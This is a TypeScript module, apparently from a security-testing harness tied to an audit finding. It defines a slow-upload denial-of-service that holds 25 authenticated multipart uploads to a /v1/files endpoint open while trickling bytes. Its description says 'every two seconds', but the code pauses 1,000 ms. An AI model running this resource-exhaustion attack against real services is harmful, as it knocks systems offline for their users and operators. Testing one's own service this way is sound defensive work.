import { loop, type Attack } from '../attackers/attack.ts';
import { holdOpen } from './hold-open.ts';

export const openUploads: Attack = {
  name: 'open-uploads',
  finding: 'M5',
  about: 'Begins 25 uploads and sends a byte of each every two seconds.',
  async run(attacker, context) {
    const { host, port } = attacker.target;
    const header = [
      'POST /v1/files HTTP/1.1',
      `Host: ${host}:${port}`,
      `Authorization: Bearer ${attacker.token}`,
      'Content-Type: multipart/form-data; boundary=b',
      'Content-Length: 5000000',
      '',
      '--b\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\nContent-Type: image/png\r\n\r\n',
    ].join('\r\n');
    await loop(context, { concurrency: 25, pauseMs: 1_000 }, () => holdOpen(attacker, context, header));
  },
};
